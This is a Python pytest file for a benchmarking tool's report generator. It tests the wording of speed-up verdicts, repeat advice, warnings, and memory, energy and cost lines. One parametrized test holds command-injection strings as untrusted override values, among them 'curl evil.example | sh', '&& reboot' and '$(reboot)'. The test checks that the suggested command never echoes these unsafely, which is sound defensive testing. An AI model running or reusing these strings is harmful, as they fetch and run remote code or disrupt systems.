"""What a report answers at full size: verdicts at a glance, claims, panels in order, sentences that say something."""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from analysis import load, text
from analysis.claims import Publication, judge
from analysis.comparison.summary import summary
from analysis.metrics.runs import computation_per_communication
from analysis.report import answers, page, warnings
from analysis.report.claims import at_a_glance, judged, shown, summed_up, table
from analysis.report.page import _measured, matrix
from analysis.runs.reader import Runs
from parallelbench.results.folder import ASKED
from tests.analysis.factory import MIB, Fake, config, failed, published, steady
from tests.analysis.made_up import IN_TWO, SPEED_UP, altered, disturbed, environment, slower
from tests.analysis.made_up import WOBBLE as MADE_UP
from tests.analysis.test_claims import REPEATS, WOBBLE, claim
from tests.analysis.test_metrics import powered
from tests.analysis.test_two_frameworks import measured


def plant(root: Path, times: dict[tuple[str, int], float], **work: Any) -> None:
    """Six repeats on each of these (strategy, devices), with their time per epoch."""
    for repeat in REPEATS:
        for (strategy, devices), time_s in times.items():
            run = config(root, repeat=repeat, strategy=strategy, devices=devices, **work)
            published(run, steady(time_s * WOBBLE[(repeat + devices + len(strategy)) % 6]))


def test_what_ratios_lack_is_told_by_their_number_of_pairs(tmp_path: Path) -> None:
    for devices, repeats in ((1, 3), (2, 3), (4, 1)):
        for repeat in range(repeats):
            run = config(tmp_path, repeat=repeat, strategy="single" if devices == 1 else "ddp", devices=devices)
            published(run, steady(10 / devices * WOBBLE[repeat], started_at=1.7e9 + 1e5 * repeat))
    runs = load(tmp_path)
    found = [line for line in warnings.warnings(runs) if "ratios rest on" in line]
    assert found == [
        "Some ratios rest on 1 independent pair of repeats only and have neither interval nor verdict (ddp × 4): "
        "add 5 repeats per side, in turn (sweep.repeats=8).",
        "Some ratios rest on 3 independent pairs of repeats only and have no verdict (ddp × 2): "
        "add 3 repeats per side, in turn (sweep.repeats=6).",
    ]
    assert "sweep.repeats=8" in answers.next_steps(runs)[0], "enough for both"


@pytest.mark.exhaustive
def test_the_verdicts_of_several_works_are_one_matrix(tmp_path: Path) -> None:
    plant(tmp_path, {("single", 1): 10.0, ("ddp", 2): 6.0, ("ddp", 4): 4.0}, batch_size=128)
    assert matrix(load(tmp_path)) is None, "of one work, sentences say it"
    plant(tmp_path, {("single", 1): 10.0, ("ddp", 2): 15.0}, batch_size=64)
    found = matrix(load(tmp_path))
    assert found is not None
    assert found.columns == ["ddp × 4", "ddp × 2"], "most devices first: a phone shows few"
    verdicts = {group: [cell.verdict for cell in cells] for group, cells in found.rows}
    assert found.alike == "digits · cnn_small"
    assert verdicts == {"batch size 64": ["", "slower"], "batch size 128": ["faster", "faster"]}
    assert [group for group, _ in found.rows] == list(verdicts), "numbers sort as numbers"
    assert found.rows[0][1][1].speed_up == "0.67 ×"
    assert found.meant == []
    told = answers.headline(load(tmp_path))
    parts = "2 baselines of one device, 3 compared with them (2 faster, 1 slower)"
    assert told[0] == f"5 configurations in 2 kinds of work: {parts}."
    assert told[1].startswith("digits · cnn_small · batch size 128: ddp × 4 trains an epoch 2.50 times as fast")
    assert told[2].startswith("digits · cnn_small · batch size 64: one device is fastest; ddp × 2 trains")
    # Of more configurations than works, each is a row; where no run counts, the cell says why.
    plant(tmp_path, {("single", 1): 10.0, ("ddp", 2): 9.0, ("ddp", 4): 8.0}, batch_size=32)
    failed(config(tmp_path, strategy="ddp", devices=4, batch_size=64), "oom", "out of memory", epochs=1)
    published(config(tmp_path, strategy="fsdp", devices=2, batch_size=64), Fake(parity_passed=False))
    failed(config(tmp_path, strategy="fsdp", devices=4, batch_size=64), "timeout", "too slow", epochs=1)
    runs = load(tmp_path)
    found = matrix(runs)
    assert found is not None
    assert found.columns == ["batch size 32", "batch size 64", "batch size 128"]
    assert {configuration: [cell.verdict for cell in cells] for configuration, cells in found.rows} == {
        "ddp × 2": ["faster", "slower", "faster"],
        "fsdp × 2": ["", "parity failed", ""],
        "ddp × 4": ["faster", "out of memory", "faster"],
        "fsdp × 4": ["", "timeout", ""],
    }
    told = _measured(runs)
    counted = "48 count, 1 out of memory, 1 parity failed, 1 timeout"
    assert told == f"51 runs on Imaginary CPU, up to 4 devices: {counted}; measured 2023-11-14 (UTC)"


@pytest.mark.slow
def test_the_matrix_names_the_one_device_of_another_framework_and_marks_too_few_repeats(tmp_path: Path) -> None:
    for batch in (64, 128):
        for strategy, devices in (("single", 1), ("ddp", 2), ("tf_single", 1), ("tf_mirrored", 2)):
            published(config(tmp_path, strategy=strategy, devices=devices, batch_size=batch), steady(10.0 / devices))
    found = matrix(load(tmp_path))
    assert found is not None
    assert [name for name, _ in found.rows] + found.columns == [
        *("batch size 64", "batch size 128"),
        *("ddp × 2", "tf_mirrored × 2 (beside tf_single × 1)"),
    ]
    assert {cell.mark for _, cells in found.rows for cell in cells} == {"†"}
    assert found.meant == ["† too few repeats for an interval"]


def test_of_an_entry_of_the_environment_few_values_and_no_useless_decimals_are_shown() -> None:
    assert page._few_values(["0.70849609375", "2.15.0", "0.25"]) == ["0.708", "2.15.0", "0.25"]
    assert page._few_values(["0.70849609375", "3", "1.5", "2", "12.25"]) == ["0.708 to 12.2 (5 values)"]
    assert page._few_values(list("abcdef")) == [*"abcd", "… 2 more values"]


@pytest.mark.exhaustive
def test_ties_with_the_fastest_are_named_and_one_device_is_where_all_are_slower(tmp_path: Path) -> None:
    times = {("single", 1): 4.0, ("ddp", 2): 10.0, ("fsdp", 2): 10.0, ("ddp", 4): 6.0, ("fsdp", 4): 6.01}
    plant(tmp_path, times)
    told = answers.headline(load(tmp_path))
    assert told[0] == "One device is fastest."
    assert told[1].startswith("ddp × 4 trains an epoch 0.67 times")
    assert told[1].endswith(" Not told apart from ddp × 4: fsdp × 4.")
    plant(tmp_path, times, batch_size=64)
    told = answers.headline(load(tmp_path))
    assert told[0] == "One device is fastest in all 2 kinds of work."
    assert told[2].startswith("digits · cnn_small · batch size 64: ddp × 4 trains an epoch 0.67 times")
    assert told[2].endswith(" Not told apart from ddp × 4: fsdp × 4.")


def test_one_device_of_another_strategy_is_told_with_its_repeats_once(tmp_path: Path) -> None:
    for repeat in REPEATS:
        for place, strategy in enumerate(("single", "ddp")):
            at = Fake.started_at + 1e4 * repeat + 1e3 * place
            published(config(tmp_path, strategy=strategy, repeat=repeat), steady(10.0 + repeat / 100, started_at=at))
    assert answers.headline(load(tmp_path))[0].count("6 repeats") == 1


@pytest.mark.parametrize(("below", "is_more"), [(1.04, True), (1.1, False)])
def test_the_next_command_is_for_claims_too_and_says_what_fewer_repeats_decide(
    below: float, is_more: bool, usual: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nearly equal times: the nearer a claim's bound is to them, the more repeats it needs."""
    noise = (1.08, 0.96, 1.03, 0.98, 1.06, 0.97)
    runs = slower(usual, *(SPEED_UP / w * n for w, n in zip(MADE_UP, noise, strict=True)))
    own = Publication(seed="002", title="its own", claims=[claim(expect={"below": below})])
    monkeypatch.setattr("analysis.claims.publications", lambda: (own,))
    (judgement,), (_, row) = judged(runs), summary(runs).to_dicts()
    of_claim, of_comparison = judgement.repeats or 0, row["repeats_to_decide"]
    assert (of_claim > of_comparison) == is_more, "else the test shows nothing"
    enough = f" (sweep.repeats={of_comparison} may be enough)" if is_more else ""
    assert answers.next_steps(runs)[0].endswith(
        f"`sweep.repeats={max(of_claim, of_comparison)}`. "
        f"That may decide 1 comparison with one device{enough} and 1 claim."
    )


def test_two_repeats_are_too_few_to_call_one_device_the_fastest_and_tell_nothing_apart(tmp_path: Path) -> None:
    for repeat in REPEATS[:2]:
        for strategy, devices, time_s in (("single", 1, 1.0), ("ddp", 2, 2.0), ("fsdp", 2, 3.0)):
            run = config(tmp_path, repeat=repeat, strategy=strategy, devices=devices)
            published(run, steady(time_s * WOBBLE[repeat]))
    told = answers.headline(load(tmp_path))
    assert told[0] == "So far one device is fastest, with too few repeats to be sure."
    assert told[1].endswith(" Too few repeats to tell ddp × 2 from fsdp × 2.")
    assert told[-1].endswith("`sweep.repeats=6`. That may decide 2 comparisons with one device.")
    published(config(tmp_path, repeat=5, strategy="zero1", devices=2), steady(0.5))  # whose repeat one device lacks
    told = answers.headline(load(tmp_path))
    assert told[0].startswith("So far, of what can be compared with it, one device is fastest, with too few ")


def test_what_every_pair_tells_apart_is_no_tie_although_intervals_beside_one_device_overlap(tmp_path: Path) -> None:
    unsteady = (1.3, 0.75, 1.1, 0.9, 1.2, 0.8)
    for repeat in REPEATS:
        for strategy, time_s in (("single", 10.0 * unsteady[repeat]), ("ddp", 6.0), ("fsdp", 6.6)):
            run = config(tmp_path, repeat=repeat, strategy=strategy, devices=1 if strategy == "single" else 2)
            published(run, steady(time_s * WOBBLE[repeat]))
    ddp, fsdp = summary(load(tmp_path)).filter(pl.col("devices") == 2).sort("configuration").to_dicts()
    assert ddp["speed_up_low"] < fsdp["speed_up_high"]
    assert not any("Not told apart" in line for line in answers.headline(load(tmp_path)))


def test_computation_for_each_second_of_communication(tmp_path: Path) -> None:
    """Two ranks, two steps: 12 s of forward and backward each, and 0, 0, 4 and 8 s of communication."""
    busy = {"data_wait": 1.0, "forward": 4.0, "backward": 8.0}
    fake = Fake(phases=lambda rank, step: busy | {"communication": 4.0 * rank * step})
    published(config(tmp_path, devices=2, strategy="ddp"), fake)
    published(config(tmp_path), Fake(phases=lambda rank, step: busy))
    (found,) = computation_per_communication(load(tmp_path))["computation_per_communication"]
    assert found == pytest.approx(4 * 12 / (4 + 8))


@pytest.mark.exhaustive
def test_a_claim_about_computation_and_communication_is_decided(tmp_path: Path) -> None:
    for repeat in REPEATS:
        for model, forward in (("cnn_small", 1.0), ("cnn_large", 5.0)):
            times = {"forward": forward, "backward": 1.0, "communication": 1.0 + repeat / 100}
            run = config(tmp_path, repeat=repeat, data="mnist", model=model, strategy="ddp", devices=2)
            published(run, Fake(phases=lambda rank, step, times=times: times))  # type: ignore[misc]
    asked = claim(
        metric="computation_per_communication",
        contrasts=[{"from": {"model": "cnn_small"}, "to": {"model": "cnn_large"}}],
        expect={"above": 1, "by": 0.02},
    )
    finding = judge(load(tmp_path), asked, seed="0")
    assert (finding.verdict, finding.cases[0].median) == ("reproduced", pytest.approx(3.0))


@pytest.mark.exhaustive
def test_claims_are_rows_of_the_page_and_the_csv_file(usual: Runs) -> None:
    inside = judge(usual, claim(), seed="007")
    other = judge(usual, claim(name="other", scope={"data": "mnist"}), seed="007")
    assert [(row.claim.name, row.verdict) for row, _ in shown([other, inside])] == [("shorter", "reproduced")]
    told = summed_up([other, inside], usual.root)
    assert "Of 2 claims: 1 reproduced, 0 refuted, 0 inconclusive; 1 not measured." in told
    cells = table([inside, other]).rows.select("claim", "verdict", "sweeps", "repeats", "finding").rows()
    assert cells == [("shorter", "reproduced", "demo", 6, "reproduced"), ("other", "inconclusive", "", 0, "")]


CONFIG, FIRST = pl.col("config_json"), IN_TWO & (pl.col("repeat") == 0)
OTHER_TORCH = environment(**{"packages.torch": "2.11.0"})
UNCHECKED = {"parity_passed": pl.when(IN_TWO).then(None).otherwise("parity_passed")}
OFF = CONFIG.str.replace('"parity":true', '"parity":false', literal=True)
SHARED = pl.when(IN_TWO).then(pl.lit(environment(allocation="shared"))).otherwise("environment_json")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("table_name", "columns", "told"),
    [
        ("run", {"environment_json": SHARED}, ["6 runs shared nodes"]),
        ("run", {"resumed_after": pl.when(FIRST).then(pl.lit("2"))}, ["{first} was", "resumed after epoch 2."]),
        ("epochs", {"telemetry_flags": pl.when(IN_TWO).then(pl.lit("short sparse"))},
         ["Energy of ddp × 2: epochs under 2 s", "Telemetry of ddp × 2: samples more than 1 s apart"]),
        ("run", {"oversubscribed": IN_TWO}, ["and 3 more: oversubscribed: more devices than cores."]),
        ("run", UNCHECKED | {"config_json": OFF}, ["(measure.parity=false): ddp × 2."]),
        ("run", UNCHECKED, ["Not comparable with one device, so without a parity check: ddp × 2."]),
        ("run", {"parity_model": pl.when(IN_TWO).then(pl.lit("mlp"))}, ["a smaller model only", " was: ddp × 2."]),
    ],
    ids=["shared", "resumed", "energies", "oversubscribed", "parity off", "parity never", "parity small"],
)  # fmt: skip
def test_what_limits_the_numbers_is_told(
    table_name: str, columns: dict[str, pl.Expr], told: list[str], usual: Runs
) -> None:
    runs = altered(usual, table_name, **columns)
    first = runs.run.filter(FIRST)["slug"].item()
    new = [line for line in warnings.warnings(runs) if line not in warnings.warnings(usual)]
    for words in told:
        assert any(words.format(first=first) in line for line in new), new
    assert sum("Excluded" in line for line in new) <= 1, "named once, not run by run"


def test_the_headline_says_that_nobody_checked(usual: Runs) -> None:
    off = altered(usual, "run", parity_passed=pl.lit(None, pl.Boolean), config_json=OFF)
    assert "Checks: Parity with one device: not checked (measure.parity=false): ddp × 2." in answers.headline(off)
    how = "(its steps in fp64, of small batches as a rule)"
    assert f"Checks: Parity with one device {how}: passed in 6 of 6 runs." in answers.headline(usual)
    lost = altered(usual, "run", parity_passed=pl.when(FIRST).then(pl.lit(False)).otherwise("parity_passed"))
    (line,) = [line for line in answers.headline(lost) if "Parity" in line]
    told = "passed in 5 of 6 runs; failed in 1, which do not count (ddp × 2)."
    assert line == f"Checks: Parity with one device {how}: {told}"
    reference = altered(usual, "run", parity_reference=pl.when(IN_TWO).then(pl.lit("own.Reference")))
    (line,) = [line for line in answers.headline(reference) if "Parity" in line]
    assert "6 of them held against a reference of the strategy's author, not one device" in line
    assert "fp64" not in line
    assert summary(off)["parity"].to_list() == ["not checked", "not checked"], "single × 1 is the reference of nothing"


def test_the_headline_says_what_was_taken_of_memory_and_energy(usual: Runs, tmp_path: Path) -> None:
    told = answers.headline(usual)
    two = "500 MiB (1,000 MiB over all processes) with ddp × 2"
    assert any(f"Peak memory of the largest process: 500 MiB with single × 1 and {two}." in line for line in told)
    energies = {row["configuration"]: row["gpu_energy_per_sample_j"] for row in summary(usual).to_dicts()}
    joules = " and ".join(f"{text.number(energy)} with {name}" for name, energy in energies.items())
    assert f"Energy: J per sample, of the GPUs: {joules}." in told
    for batch, model, taken in itertools.product((64, 128, 256), ("cnn_small", "cnn_large"), (500, 750)):
        devices = 1 if taken == 500 else 2
        peak = taken * MIB + (100 * MIB if batch == 128 and model == "cnn_large" else 0)
        fake = Fake(host_peak_rss_bytes=lambda e, r, peak=peak: peak)  # type: ignore[misc]
        way = {"strategy": "single" if devices == 1 else "ddp", "devices": devices}
        published(config(tmp_path, batch_size=batch, model=model, **way), fake)
    (line,) = [line for line in answers.headline(load(tmp_path)) if line.startswith("Memory")]
    # 850 ÷ 600 MiB of the one work, 750 ÷ 500 MiB of the others; of two processes twice as much.
    assert line.count("1.50 times with ddp × 2 and 3.00 times over all processes (digits · cnn_") == 3
    assert "1.42 times with ddp × 2 and 2.83 times over all processes (digits · cnn_large · batch size 128)" in line
    assert " to " not in line.partition("Peak memory")[2], "works are not ranked"


def test_without_an_energy_on_processors_flags_make_no_row(usual: Runs) -> None:
    flagged = altered(usual, "epochs", telemetry_flags=pl.lit("sparse"), gpu_energy_j=pl.lit(None, pl.Float64))
    assert warnings.with_energy(summary(usual)).height == 2
    assert warnings.with_energy(summary(flagged)).is_empty()


@pytest.mark.slow
def test_of_several_works_a_warning_names_the_one_that_it_is_about(tmp_path: Path) -> None:
    """Of the larger batch two repeats are slowed down, of the smaller one only one."""
    for batch, repeat in itertools.product((64, 128), range(2)):
        slowed = 0x40 if batch == 128 or repeat == 0 else 0
        one = powered(lambda e, r: 100.0, throttle_reasons=lambda e, found=slowed: found)
        published(config(tmp_path, batch_size=batch, repeat=repeat), one)
        silent, small = powered(None, parity_passed=None), powered(lambda e, r: 100.0, parity_model="mlp")
        two = config(tmp_path, batch_size=batch, repeat=repeat, strategy="ddp", devices=2)
        published(two, silent if batch == 128 else small)
    told = warnings.warnings(load(tmp_path))
    work = "digits · cnn_small · batch size"
    for words, names in (
        ("Clocks were lowered by heat (hardware) while 1 repeat", f"of single × 1 ({work} 64) trained"),
        ("Clocks were lowered by heat (hardware) while 2 repeats", f"of single × 1 ({work} 128) trained"),
        ("Energy per epoch is not known", f"ddp × 2 ({work} 128):"),
        ("without a parity check", f"ddp × 2 ({work} 128)."),
        ("as a smaller model only", f"ddp × 2 ({work} 64)."),
    ):
        (line,) = (line for line in told if words in line)
        assert names in line


@pytest.mark.slow
def test_a_runs_own_warning_is_told_by_the_report_and_by_claims(usual: Runs) -> None:
    runs = altered(usual, "run", warnings=pl.when(FIRST).then(pl.lit("its clock went back")))
    (line,) = [line for line in warnings.warnings(runs) if "its clock went back" in line]
    assert line.startswith("ddp × 2: its clock went back (1 run: ")
    (case,) = judge(runs, claim(), seed="0").cases
    assert case.warnings == ("its clock went back",)


def test_an_estimate_is_told_from_1_where_its_interval_is() -> None:
    known = {(1.002, 1.006): "1.004", (0.9, 1.1): "1.00", (None, None): "1.00"}
    assert {ends: text.estimate(1.004, *ends) for ends in known} == known
    assert [text.interval(0.0823, *ends) for ends in ((0.068, 0.097), (None, None))] == ["0.082 (0.068–0.097)", "0.082"]


def test_what_was_measured_apart_is_not_said_to_be_untold_and_one_pasted_command_gives_it_a_verdict(
    tmp_path: Path,
) -> None:
    """The sides of six repeats a day apart; then as many more as the report asks for, in turn."""

    def measure(repeats: range, *, apart: bool) -> Runs:
        for repeat in repeats:
            for place, (strategy, time_s) in enumerate((("single", 10.0), ("ddp", 6.0), ("fsdp", 9.0))):
                in_round = place if repeat % 2 else 2 - place
                at = 1.7e9 + 1e5 * place + 10 * repeat if apart else 1.8e9 + 30 * repeat + in_round
                run = config(tmp_path, repeat=repeat, strategy=strategy, devices=1 if strategy == "single" else 2)
                published(run, steady(time_s * WOBBLE[(repeat + place) % 6], started_at=at))
        return load(tmp_path)

    runs = measure(REPEATS, apart=True)
    told = answers.headline(runs)
    assert set(summary(runs)["verdict"]) == {"baseline", "not interleaved"}
    assert "Not tested whether ddp × 2 is faster than fsdp × 2: they were measured apart." in told[0]
    assert not any("Not told apart" in line for line in told)
    turns = "One submit measures all sides of the new repeats in turn."
    why = "That may decide 2 comparisons with one device."
    assert told[-1] == f"Next: submit the sweep again with `sweep.repeats=10`. {turns} {why}"
    runs = measure(range(6, 10), apart=False)
    assert set(summary(runs)["verdict"]) == {"baseline", "faster"}
    assert answers.next_steps(runs) == ["No more measuring is needed for the verdicts: every comparison is decided."]


def test_no_submit_of_several_sweeps_decides_what_was_measured_apart(tmp_path: Path) -> None:
    ways = (("one", "single", 10.0, 0, 6), ("one", "fsdp", 9.0, 1, 2), ("two", "ddp", 6.0, 1e5, 6))
    for sweep, strategy, time_s, later_s, repeats in ways:
        for repeat in range(repeats):
            way: dict[str, Any] = {"strategy": strategy, "devices": 1 if strategy == "single" else 2}
            at = 1.7e9 + later_s * (-1) ** repeat + 10 * repeat if sweep == "one" else 1.7e9 + later_s + 10 * repeat
            fake = steady(time_s * WOBBLE[repeat], started_at=at)
            published(config(tmp_path, repeat=repeat, sweep_name=sweep, **way), fake)
    runs = load(tmp_path)
    assert set(summary(runs)["verdict"]) == {"baseline", "not interleaved", "too few repeats"}
    assert answers.headline(runs)[-1].endswith(" That may decide 1 comparison with one device.")


_NO_OVERRIDES = (
    *("sweep=demo; curl evil.example | sh #", "sweep=demo devices=1 && reboot", "sweep=demo 'devices=1\x1b[2J'"),
    *("sweep=demo 'a=`reboot`'", "sweep='demo", "--out=/ sweep=demo"),
)
"""What somebody else's folder may say."""


@pytest.mark.parametrize(
    ("sweep", "first", "rest", "command"),
    [
        ("demo", "sweep=demo devices=1,2", "sweep=demo devices=1,2", "sweep=demo devices=1,2 sweep.repeats=6"),
        (
            "own",
            "sweep=own 'site.account=p 1'",
            "sweep=own 'site.account=p 1'",
            "sweep=own 'site.account=p 1' sweep.repeats=6",
        ),
        ("adhoc", "strategy=single", "strategy=ddp", ""),
        ("adhoc", "strategy=single,ddp", "", ""),
        ("adhoc", "", "", ""),
        *[("demo", words, words, "") for words in _NO_OVERRIDES],
        ("demo", "'sweep=demo;reboot'", "'sweep=demo;reboot'", "'sweep=demo;reboot' sweep.repeats=6"),
        ("demo", "sweep=demo;reboot", "sweep=demo;reboot", "'sweep=demo;reboot' sweep.repeats=6"),
        ("demo", "sweep=$(reboot)", "sweep=$(reboot)", "'sweep=$(reboot)' sweep.repeats=6"),
    ],
    ids=[
        *("lists", "own", "two commands", "partly recorded", "not recorded"),
        *(f"no overrides {place}" for place in range(len(_NO_OVERRIDES))),
        *("quoted", "semicolon", "substitution"),
    ],
)
def test_the_command_is_that_which_all_runs_recorded(
    sweep: str, first: str, rest: str, command: str, tmp_path: Path
) -> None:
    for repeat, (strategy, devices) in itertools.product(range(2), (("single", 1), ("ddp", 2))):
        run = config(tmp_path, repeat=repeat, strategy=strategy, devices=devices, sweep_name=sweep)
        folder = published(run, steady(10.0 / devices))
        asked = first if strategy == "single" else rest
        lines = [f"strategy={strategy}", *([f"{ASKED}{asked}"] if asked else [])]
        (folder.path / "overrides.txt").write_text("\n".join(lines), encoding="utf-8")
    line = answers.headline(load(tmp_path))[-1]
    own = ", with its --conf and --plugin" if sweep == "own" or "reboot" in command else ""
    asks = f"`parallelbench submit {command}`{own}." if command else "submit the sweep again with `sweep.repeats=6`."
    assert line.startswith(f"Next: {asks}")


def test_the_shortest_epoch_is_told_where_the_largest_speed_up_is_over_a_slower_framework(tmp_path: Path) -> None:
    runs = measured(tmp_path, "single", "ddp", "tf_single", "tf_multi_worker")
    told = answers.headline(runs)
    assert [line for line in told if line.startswith("Shortest epoch")] == [
        "Shortest epoch of the same work over all frameworks: ddp × 2 5.25\u202fs and tf_multi_worker × 2 16.2\u202fs, "
        "told apart where the two are paired directly."
    ]
    for batch, strategy in itertools.product((64, 256), ("single", "ddp")):
        published(config(tmp_path, strategy=strategy, devices=1 if strategy == "single" else 2, batch_size=batch))
    published(config(tmp_path, strategy="fsdp", devices=2, batch_size=64))
    told = answers.headline(load(tmp_path))
    (of_torch,) = [line for line in told if line.startswith("Largest speed-up over single × 1: ")]
    (other,) = [line for line in told if line.startswith("Only speed-up over tf_single × 1: ")]
    assert "as fast as single × 1" in of_torch
    assert "as fast as tf_single × 1" in other
    (smallest,) = [line for line in told if line.startswith("Smallest speed-up")]
    assert smallest.startswith("Smallest speed-up over single × 1: ")


def test_no_epoch_is_the_shortest_where_epochs_hold_unequally_many_samples(tmp_path: Path) -> None:
    """Under weak scaling so many steps train on twice the samples with two devices."""
    whole = Fake.environment.replace("torch", "tensorflow").replace("{", '{"framework":"tensorflow",', 1)
    for strategy, recorded in (("ddp", Fake.environment), ("tf_single", whole)):
        way: dict[str, Any] = {"strategy": strategy, "devices": 1 if strategy == "tf_single" else 2}
        run = config(tmp_path, scaling="weak", measure={"steps_per_epoch": 4}, **way)
        published(run, steady(10.0, environment=recorded))
    published(config(tmp_path, scaling="weak", measure={"steps_per_epoch": 4}), steady(10.0))
    assert not any(line.startswith("Shortest epoch") for line in answers.headline(load(tmp_path)))


def test_results_that_lack_their_scaling_have_answers(tmp_path: Path) -> None:
    for model, repeat, strategy in itertools.product(("mlp", "cnn_small"), range(3), ("single", "ddp", "fsdp")):
        devices = 1 if strategy == "single" else 2
        published(
            config(tmp_path, model=model, strategy=strategy, devices=devices, repeat=repeat), steady(10.0 / devices)
        )
    runs = load(tmp_path)
    rows = answers._compared(runs).with_columns(scaling=pl.lit(None, pl.String))
    assert [line.partition(":")[0] for line in answers._extremes(runs, rows)] == [
        "Largest speed-up",
        "Smallest speed-up",
    ]


def test_strong_and_weak_scaling_are_told_each(tmp_path: Path) -> None:
    for scaling, strategy in itertools.product(("strong", "weak"), ("single", "ddp", "fsdp", "zero1")):
        devices = 1 if strategy == "single" else 2
        taken = 1000 * MIB // (devices if scaling == "strong" else 1)
        fake = Fake(host_peak_rss_bytes=lambda e, r, taken=taken: taken)  # type: ignore[misc]
        published(config(tmp_path, strategy=strategy, devices=devices, scaling=scaling), fake)
    told = answers.headline(load(tmp_path))
    for kind in ("strong", "weak"):
        assert sum(f" under {kind} scaling: " in line for line in told) == 2, "the largest and the smallest"
    (line,) = [line for line in told if line.startswith("Memory")]
    many = "ddp × 2, fsdp × 2 and zero1 × 2"
    assert f"500 MiB (1,000 MiB over all processes) with {many}; and 1,000 MiB with single × 1" in line
    assert f"weak: 1,000 MiB with single × 1; and 1,000 MiB (2,000 MiB over all processes) with {many}" in line


def test_flagged_energies_are_not_in_the_headline(usual: Runs) -> None:
    one = altered(usual, "epochs", telemetry_flags=pl.when(IN_TWO).then(pl.lit("sparse")))
    (line,) = [line for line in answers.headline(one) if line.startswith("Energy")]
    assert "single × 1" in line
    assert "ddp × 2" not in line
    every = altered(usual, "epochs", telemetry_flags=pl.lit("sparse"))
    gpus = altered(every, "run", device_type=pl.lit("cuda"))
    assert not any(" J with " in line for line in answers.headline(gpus))


def test_energies_without_a_baseline_are_not_said_to_be_unmeasured(tmp_path: Path) -> None:
    for batch_size in (64, 128):
        published(config(tmp_path, strategy="ddp", devices=2, batch_size=batch_size))
    runs = altered(load(tmp_path), "epochs", gpu_energy_j=pl.lit(300.0))
    runs = altered(runs, "run", device_type=pl.lit("cuda"))
    assert summary(runs)["gpu_energy_per_sample_j"].null_count() == 0
    (line,) = [line for line in answers.headline(runs) if line.startswith("Energy")]
    assert line.count("J per sample of digits · cnn_small · batch size ") == 2


def test_claims_at_a_glance(usual: Runs) -> None:
    refuted = judge(usual, claim(name="longer", expect={"above": 1.02}), seed="007")
    found = [
        refuted,
        judge(usual, claim(), seed="007"),
        judge(usual, claim(name="no", scope={"data": "mnist"}), seed="7"),
    ]
    assert at_a_glance(found) == "Claims of the publications: 1 of 3 refuted (longer), 1 reproduced, 0 undecided."
    assert at_a_glance(found[2:]) == "", "nothing is said of what was not measured"


@pytest.mark.parametrize(("high", "shown"), [(1.6, "1.20–1.60"), (7.4e13, "wider than a factor of 100")])
def test_ends_that_say_nothing_are_not_shown(high: float, shown: str) -> None:
    """Few noisy repeats of many comparisons have such intervals, whose lower end would be shown as 0.00."""
    low = 1.2 if high < 2 else 1e-13
    for told in (text.interval(1.5, low, high), text.interval_of_95(low, high)):
        assert shown in told
        assert "0.00" not in told


def test_device_hours_are_of_runs_that_nobody_disturbed(usual: Runs) -> None:
    # Six repeats of an epoch of 20 s and three later ones; the median repeat on one device takes 12.5 s an epoch.
    (line,) = [line for line in answers.headline(usual) if line.startswith("Cost")]
    whole, later = (text.number(time_s / 3600) for time_s in (20 + 3 * 12.5, 12.5))
    what = "Device-hours of training for 4 epochs, start-up aside"
    assert line.startswith(f"Cost: {what}: {whole} (a later epoch: {later}) with single × 1")
    assert "site.price_per_device_hour" in line
    (line,) = [line for line in answers.headline(disturbed(usual, 1)) if line.startswith("Cost")]
    assert "ddp × 2" not in line


def test_a_long_first_epoch_is_told_beside_the_speed_of_later_ones(usual: Runs) -> None:
    """On one device 20 s and three epochs of 10 to 15 s; on two 20 s, and three that take less by 1.6: the middle two
    ratios are (20 + 36) ÷ (20 + 36 × 0.99 ÷ 1.6) = 1.325 and (20 + 39) ÷ (20 + 39 × 1.02 ÷ 1.6) = 1.316.
    """
    (line,) = [line for line in answers.headline(usual) if line.startswith("ddp × 2 trains an epoch 1.60")]
    assert "over the whole training of 4 epochs 1.32 times as fast" in line
    assert "a parity check warmed up one side" in line


def test_costs_of_several_works_name_the_fastest_and_those_that_take_the_same(tmp_path: Path) -> None:
    """Five times an epoch's time, of three epochs the first one takes three: on 1, 2, 2 and 4 devices 150, 150, 170 and
    160 device-seconds.
    """
    ways = {("single", 1): 30.0, ("fsdp", 2): 15.0, ("ddp", 2): 17.0, ("ddp", 4): 8.0}
    for model, (way, time_s) in itertools.product(("cnn_small", "mlp"), ways.items()):
        published(config(tmp_path, model=model, strategy=way[0], devices=way[1]), steady(time_s, first_s=3 * time_s))
    (line,) = [line for line in answers.headline(load(tmp_path)) if line.startswith("Cost")]
    epochs = 2 + int(load(tmp_path).run["epochs"][0])
    least, most, fastest = (text.number(epochs * seconds / 3600) for seconds in (30, 34, 32))
    assert line.count(f"{least} (a later epoch: {text.number(30 / 3600)}) with single × 1 and fsdp × 2 to {most}") == 2
    assert line.count(f"; the fastest, ddp × 4: {fastest}") == 2


def test_device_hours_have_their_price_where_the_site_names_one(usual: Runs) -> None:
    site = CONFIG.str.replace('"price_per_device_hour":null', '"price_per_device_hour":36.0', literal=True)
    (line,) = [line for line in answers.headline(altered(usual, "run", config_json=site)) if line.startswith("Cost")]
    assert f"price: {text.number(36 * (20 + 3 * 12.5) / 3600)}) with single × 1" in line
    assert "not known" not in line


def test_what_repeats_can_not_decide_is_no_advice_to_measure_more(usual: Runs, tmp_path: Path) -> None:
    """Two sides in unlike environments; and one configuration alone."""
    unlike = altered(
        usual, "run", environment_json=pl.when(IN_TWO).then(pl.lit(OTHER_TORCH)).otherwise("environment_json")
    )
    (told,) = answers.next_steps(unlike)
    assert told.startswith("Repeats alone give no verdict to ddp × 2")
    published(config(tmp_path))
    alone = load(tmp_path)
    assert "needed" not in answers.next_steps(alone)[0]
    assert any(line.startswith("For a paper: No sentence: ") for line in answers.headline(alone))


def test_a_speed_up_without_a_verdict_is_said_to_rank_nothing(tmp_path: Path) -> None:
    for repeat, (strategy, devices) in itertools.product(range(2), (("single", 1), ("ddp", 2))):
        published(config(tmp_path, repeat=repeat, strategy=strategy, devices=devices), steady(10.0 / devices**0.5))
    told = answers.headline(load(tmp_path))
    assert any(line.startswith("Trust: No ranking rests on ddp × 2: too few repeats for a verdict.") for line in told)
    assert "For a paper: No sentence: ddp × 2: 2 paired repeats, and a verdict takes 4." in told
